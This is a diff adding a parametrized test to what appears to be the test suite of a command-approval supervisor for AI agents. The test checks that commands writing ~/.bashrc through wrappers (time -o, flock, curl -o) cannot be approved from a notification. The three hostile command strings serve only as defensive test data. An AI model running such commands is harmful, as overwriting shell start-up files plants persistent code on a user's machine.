@@ -24,6 +24,8 @@ from whisper_tui.model.event import Judged
 from whisper_tui.model.state import CallRecord, Waiting
 from whisper_tui.model.verdict import Meaning, Resolved, Risk, RunCode, Verdict
 from whisper_tui.notify.desktop_buttons import DesktopButtons, call_notice
+from whisper_tui.policy.rules.rule import Rules
+from whisper_tui.supervisor.approvals.judge import judge_alone
 
 __all__ = ["shell"]
 pytestmark = [
@@ -301,6 +303,21 @@ LS = CommandSpec(command=Argv(program="ls"), cwd="/w")
 def test_a_call_that_a_notification_cannot_show_cannot_be_approved_by_it(record: CallRecord) -> None:
     notice = call_notice(record, None)
     assert not notice.may_approve and "Open the cockpit to approve: " in notice.body
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "/usr/bin/time -f 'touch /tmp/pwn' -o ~/.bashrc ls",
+        "flock ~/.bashrc ls",
+        "curl --output-dir ~ -o .bashrc http://h",
+    ],
+)
+def test_a_call_that_writes_a_start_up_file_by_the_words_of_a_wrapper_cannot_be_approved_by_it(text: str) -> None:
+    spec = CommandSpec(command=ShellCommand(text=text), cwd="/")
+    environment = {"PATH": "/usr/bin:/bin", "HOME": "/home/me"}
+    verdict, resolved = judge_alone(spec, Rules(), environment, root="/", now=0.0)
+    assert not call_notice(waiting(spec, *verdict.risks, sensitive=resolved.sensitive), None).may_approve
 
 
 def test_a_notification_names_command_directory_and_risks_and_no_secret() -> None:
